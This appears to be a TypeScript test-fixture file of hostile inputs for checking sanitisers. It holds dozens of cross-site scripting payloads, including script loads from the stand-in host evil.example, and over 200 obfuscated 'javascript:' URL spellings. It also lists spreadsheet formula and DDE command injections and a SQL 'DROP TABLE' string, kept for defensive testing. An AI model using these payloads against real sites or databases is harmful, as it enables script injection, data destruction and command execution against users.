// What hostile texts look like. Each is at most 60 characters long, so that it fits into a name, and each that runs
// raises the counter `__ran` of its window.

/** Markup that runs a script, loads something from elsewhere or breaks out of what it stands in, where HTML is allowed. */
export const markup: readonly string[] = [
  '<script>__ran++</script>',
  '"><script>__ran++</script>',
  '</script><script>__ran++</script>',
  '<scr<script>ipt>__ran++</scr</script>ipt>',
  '<script src="//evil.example/a.js"></script>',
  '<img src=x onerror=__ran++>',
  '\'"><img src=x onerror="__ran++">',
  '<img src="//evil.example/pixel.png">',
  '<svg onload=__ran++>',
  '<svg><script>__ran++</script></svg>',
  '<svg><animate onbegin=__ran++ attributeName=x dur=1s>',
  '<iframe srcdoc="<script>parent.__ran++</script>"></iframe>',
  '<iframe src="javascript:parent.__ran++"></iframe>',
  '<math><mtext><img src=x onerror=__ran++></mtext></math>',
  '<math href="javascript:__ran++">x</math>',
  '<template><img src=x onerror=__ran++></template>',
  '<style onload=__ran++></style>',
  '<style>@import"//evil.example/a.css";</style>',
  '<link rel=stylesheet href="//evil.example/a.css">',
  '</textarea><img src=x onerror=__ran++>',
  '</title><img src=x onerror=__ran++>',
  '</style><img src=x onerror=__ran++>',
  '--><img src=x onerror=__ran++><!--',
  '<body onload=__ran++>',
  '<details open ontoggle=__ran++>x</details>',
  '<video><source onerror=__ran++></video>',
  '<input autofocus onfocus=__ran++>',
  '<object data="javascript:parent.__ran++"></object>',
  '<form action="javascript:__ran++"><button>x</button></form>',
  '<meta http-equiv=refresh content="0;//evil.example">',
  '<base href="//evil.example/">',
  '<a href="javascript:__ran++">x</a>',
  '{{constructor.constructor("__ran++")()}}',
  '${__ran++}',
  '%3Cscript%3E__ran++%3C/script%3E',
  '&lt;script&gt;__ran++&lt;/script&gt;',
  '\\u003cscript\\u003e__ran++\\u003c/script\\u003e',
];

const scheme = 'javascript';
const run = ':__ran++';
const places = Array.from(scheme, (_, at) => at);
const at = (place: number, write: (letter: string) => string): string =>
  scheme.slice(0, place) + write(scheme.charAt(place)) + scheme.slice(place + 1) + run;
const before = (place: number, text: string): string => at(place, (letter) => text + letter);
const codeOf = (letter: string): number => letter.charCodeAt(0);
const hex = (letter: string, digits: number): string =>
  codeOf(letter).toString(16).padStart(digits, '0');

/** Letters that look like those of the scheme, or become them when a text is folded. */
const alike: Readonly<Record<string, string>> = {
  ...{
    j: 'јⅉｊ',
    a: 'аａₐ',
    v: 'ѵｖⅴ',
    s: 'ѕｓſ',
    c: 'сｃⅽ',
    r: 'ｒᵣг',
    i: 'іｉı',
    p: 'рｐᵨ',
    t: 'ｔτт',
  },
};

const everySpelling: readonly string[] = [
  scheme + run,
  scheme.toUpperCase() + run,
  ...places.map((place) => at(place, (letter) => letter.toUpperCase())),
  ...['\t', '\n', '\r', '\u200b', '\u00ad'].flatMap((gap) =>
    places.slice(1).map((place) => before(place, gap)),
  ),
  ...Array.from({ length: 33 }, (_, code) => String.fromCharCode(code) + scheme + run),
  ...['\u00a0', '\ufeff', '\u2028', '\u202e', '"', "'", '`', '/', '\\', '#', '?'].map(
    (first) => first + scheme + run,
  ),
  ...places.map((place) => at(place, (letter) => `&#${codeOf(letter)};`)),
  ...places.map((place) => at(place, (letter) => `&#x${hex(letter, 2)}`)),
  ...places.map((place) => at(place, (letter) => `&#${String(codeOf(letter)).padStart(7, '0')}`)),
  ...places.map((place) => at(place, (letter) => `%${hex(letter, 2)}`)),
  ...places.map((place) => at(place, (letter) => `\\x${hex(letter, 2)}`)),
  ...places.map((place) => at(place, (letter) => `\\u${hex(letter, 4)}`)),
  ...places.flatMap((place) =>
    Array.from(alike[scheme.charAt(place)] ?? '', (other) => at(place, () => other)),
  ),
  ...['&Tab;', '&NewLine;', '&#10;', '&#x0D;'].map((gap) => before(4, gap)),
  ...[':', '&colon;', '&#58;', '&#x3a;', '%3a', '\uff1a', '\ufe55', '\ua789'].map(
    (colon) => `${scheme}${colon}__ran++`,
  ),
  `${scheme}://%0a__ran++`,
  `${scheme}://evil.example/%0d%0a__ran++`,
  `${scheme}:/*--></title></style>*/__ran++`,
  `${scheme}:void(__ran++)`,
  `feed:${scheme}${run}`,
  `view-source:${scheme}${run}`,
  `jar:${scheme}${run}!/`,
  `[x](${scheme}${run})`,
  `<${scheme}${run}>`,
  `url(${scheme}${run})`,
  `vbscript${run}`,
  `livescript${run}`,
  'data:text/html,<script>__ran++</script>',
  'data:text/html;base64,PHNjcmlwdD5fX3JhbisrPC9zY3JpcHQ+',
  'data:image/svg+xml,<svg onload=__ran++>',
  'data:,__ran++',
  'blob:https://evil.example/9115d58c-bcda-ff47',
  'filesystem:https://evil.example/temporary/a.html',
  'https://evil.example/#letter=',
  '//evil.example/',
];

/** Addresses that run a script, or would in a careless reader, in 200 and more spellings. */
export const spellings: readonly string[] = [...new Set(everySpelling)];

/** Texts that damage what is drawn, kept or compared carelessly. */
export const odd: Readonly<Record<string, string>> = {
  'a NUL': 'a\0b',
  'control characters': '\u0001\u0007\u0008\u001b[31m\u007f\u009b',
  'a lone high surrogate': 'a\ud83d',
  'a lone low surrogate': '\ude80b',
  'surrogates the wrong way round': '\ude80\ud83d',
  'a noncharacter': '\ufffe\uffff',
  'an override of direction': '\u202etxt.exe',
  'isolates of direction left open': '\u2066\u2067\u2068Ines',
  'zero-width characters': 'I\u200bn\u200ce\u200ds\u2060',
  'marks piled up': `e${'\u0301\u0316'.repeat(20)}`,
  'a byte order mark': '\ufeffInes',
  'line separators': 'a\u2028b\u2029c',
  'quotes and backslashes': '"\\"\\\\\'`',
  'an emoji of many parts': '\u{1f469}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}',
  'tags of Unicode': 'Ines\u{e0041}\u{e007f}',
  'the name of a prototype': '__proto__',
  'the name of a constructor': 'constructor',
  'a formula': '=HYPERLINK("//evil.example","x")',
  'a command of a formula': '@SUM(1+1)*cmd|’ /C calc’!A0',
  SQL: "'; DROP TABLE facts; --",
};
